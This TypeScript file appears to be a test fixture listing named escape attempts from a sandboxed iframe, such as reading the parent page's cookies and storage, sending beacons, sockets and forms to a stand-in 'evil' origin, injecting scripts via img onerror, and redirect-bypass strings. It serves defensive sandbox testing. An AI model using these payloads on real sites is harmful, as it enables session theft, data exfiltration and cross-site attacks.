/** An attack by its name: statements that return what they gained. `evil` is another origin, `say` tells the page around the frame. */
export type Escape = readonly [name: string, attack: string]

const add = (tag: string, values: string): string =>
  `const e = Object.assign(document.createElement('${tag}'), ${values}); document.body.append(e);`

/** What a section in a sandboxed frame might try to reach the page, the person's session, or another site. */
export const escapes: readonly Escape[] = [
  // The page around it, and what the browser stores for the site.
  ['reads the document of the page', `return parent.document.title`],
  ['reads the storage of the page', `return parent.localStorage.length`],
  ['calls a function of the page', `return parent.eval('1')`],
  ['reads cookies', `return document.cookie + 'readable'`],
  ['reads the local storage', `return localStorage.length`],
  ['reads the session storage', `return sessionStorage.length`],
  [
    'opens a database',
    `return await new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = () => yes('opened'); r.onerror = no })`,
  ],
  ['opens a cache', `return (await caches.keys()).length`],
  [
    'registers a service worker',
    `return (await navigator.serviceWorker.register('/offline-worker.js')).scope`,
  ],
  [
    'starts a worker',
    `return await new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => yes('runs'); w.onerror = no })`,
  ],
  [
    'starts a shared worker',
    `return await new Promise((yes, no) => { const w = new SharedWorker('/offline-worker.js'); w.onerror = no; setTimeout(() => no(), 100) })`,
  ],
  ['asks for storage access', `await document.requestStorageAccess(); return document.cookie + 'granted'`],
  ['changes its domain', `document.domain = 'localhost'; return document.domain`],
  [
    'listens to a channel of the site',
    `return await new Promise((yes, no) => { new BroadcastChannel('within-reach').onmessage = yes; setTimeout(no, 100) })`,
  ],
  ['takes the page as its opener', `return opener.location.href`],
  [
    'rewrites its address to another page',
    `history.pushState(null, '', '/console'); return parent.location.pathname`,
  ],
  // Connections.
  [
    'asks for the session',
    `const r = new XMLHttpRequest(); r.open('POST', '/api/session', false); r.withCredentials = true; r.send(); return r.responseText`,
  ],
  [
    'requests another site',
    `const r = new XMLHttpRequest(); r.open('GET', evil + '/xhr', false); r.send(); return r.status`,
  ],
  ['sends a beacon', `navigator.sendBeacon(evil + '/beacon', 'x')`],
  [
    'opens a socket',
    `return await new Promise((yes, no) => { const s = new WebSocket(evil.replace('http', 'ws')); s.onopen = () => yes('open'); s.onerror = no })`,
  ],
  [
    'opens an event stream',
    `return await new Promise((yes, no) => { const s = new EventSource(evil + '/events'); s.onopen = () => yes('open'); s.onerror = no })`,
  ],
  ['opens a peer connection', `return new RTCPeerConnection().connectionState`],
  ['shows a picture of another site', add('img', `{ src: evil + '/img' }`)],
  ['loads a style of another site', add('link', `{ rel: 'stylesheet', href: evil + '/css' }`)],
  [
    'loads a script of another site',
    `const { head } = document; ${add('script', `{ type: 'text/javascript' }`)} e.src = evil + '/js'`,
  ],
  ['plays a film of another site', add('video', `{ src: evil + '/film', autoplay: true }`)],
  ['prefetches another site', add('link', `{ rel: 'prefetch', href: evil + '/prefetch' }`)],
  ['imports a module of another site', `return await import(evil + '/module.js')`],
  // Scripts that nobody published.
  ['runs a text', `return eval('1')`],
  ['makes a function of a text', `return new Function('return 1')()`],
  [
    'delays a text',
    `window.hit = undefined; setTimeout('window.hit = 1'); await settle(); return window.hit`,
  ],
  [
    'writes markup with a script',
    `window.hit = undefined; document.body.innerHTML = '<img src=x onerror="window.hit = 1">'; await settle(); return window.hit`,
  ],
  [
    'adds an inline script',
    `window.hit = undefined; const e = document.createElement('script'); e.textContent = 'window.hit = 1'; document.body.append(e); return window.hit`,
  ],
  ['goes to a script address', `location.href = 'javascript:parent.postMessage(1)'`],
  // Frames, windows and the address of the page.
  ['frames another site', add('iframe', `{ src: evil + '/frame' }`)],
  [
    'frames a page of the site',
    `${add('iframe', `{ src: '/terms' }`)} await settle(); return e.contentDocument?.title`,
  ],
  [
    'frames markup of its own',
    `const e = document.createElement('iframe'); e.srcdoc = '<script>parent.hit = 1</' + 'script>'; document.body.append(e); await settle(); return window.hit`,
  ],
  ['opens a window', `return window.open(evil + '/window')?.closed`],
  ['follows a link into a window', `${add('a', `{ href: evil + '/link', target: '_blank' }`)} e.click()`],
  ['moves the page', `top.location = evil + '/top'`],
  ['moves the page within the site', `parent.location.href = '/login'`],
  ['follows a link in the page', `${add('a', `{ href: '/login', target: '_top' }`)} e.click()`],
  ['sends a form to another site', `${add('form', `{ action: evil + '/form', method: 'post' }`)} e.submit()`],
  ['sends a form in the page', `${add('form', `{ action: '/login', target: '_top' }`)} e.submit()`],
  ['leaves for another site', `location.href = evil + '/self'`],
  ['leaves for a page of the site', `location.href = '/login'`],
  ['downloads a file', `${add('a', `{ href: '/robots.txt', download: 'x' }`)} e.click()`],
  ['shows a dialogue', `alert('hello'); return confirm('sure?') || undefined`],
  ['fills the screen', `await document.body.requestFullscreen(); return 'full'`],
  [
    'asks where the person is',
    `return await new Promise((yes, no) => navigator.geolocation.getCurrentPosition(() => yes('found'), no))`,
  ],
  ['asks for the camera', `return await navigator.mediaDevices.getUserMedia({ video: true })`],
  ['writes to the clipboard', `await navigator.clipboard.writeText('x'); return 'written'`],
  ['goes back in the history', `history.back()`],
  // Messages to the page.
  [
    'calls with a login',
    `return (await call('/api/postMsg', 'to=a&msg=b')).status === 403 ? undefined : 'answered'`,
  ],
  ['calls for the session', `return (await call('/api/session')).status === 403 ? undefined : 'answered'`],
  [
    'calls in a roundabout way',
    `return (await call('/api/posts/../session')).status === 403 ? undefined : 'answered'`,
  ],
  ['calls another site', `return (await call(evil + '/api/posts')).status === 403 ? undefined : 'answered'`],
  [
    'calls as the member',
    `return (await call('/api/posts', 'type=tr')).body.includes('"mine":true') || undefined`,
  ],
  [
    'calls without end',
    `const all = await Promise.all(Array.from({ length: 200 }, () => call('/api/posts', 'type=tr'))); return all.filter(({ status }) => status !== 429).length > 60 || undefined`,
  ],
  ['asks to leave without a press', `say({ type: 'navigate', to: '/login', replace: false })`],
  [
    'asks to leave for another site',
    `for (const to of [evil, evil.slice(5), '/\\\\' + evil.slice(7), 'javascript:alert(1)']) say({ type: 'navigate', to, replace: false })`,
  ],
  ['asks to go back without a press', `say({ type: 'back', fallback: '/login' })`],
  [
    'asks for the messages without a press',
    `say({ type: 'messages', recipient: { to: 'a@example.com', nick: 'a' } })`,
  ],
  [
    'sends what is no message',
    `for (const one of [null, 1, {}, { type: 'navigate' }, { type: 'constructor' }, [], { type: 'title', title: {} }]) say(one)`,
  ],
  [
    'sends a state with much in it',
    `say({ type: 'navigate', to: '/userspacejobs', replace: false, state: 'x'.repeat(1e6) })`,
  ],
  [
    'speaks to the page without the port',
    `for (const type of ['navigate', 'loggedOut', 'start']) parent.postMessage({ type, to: '/login', protocol: 1 }, '*')`,
  ],
]
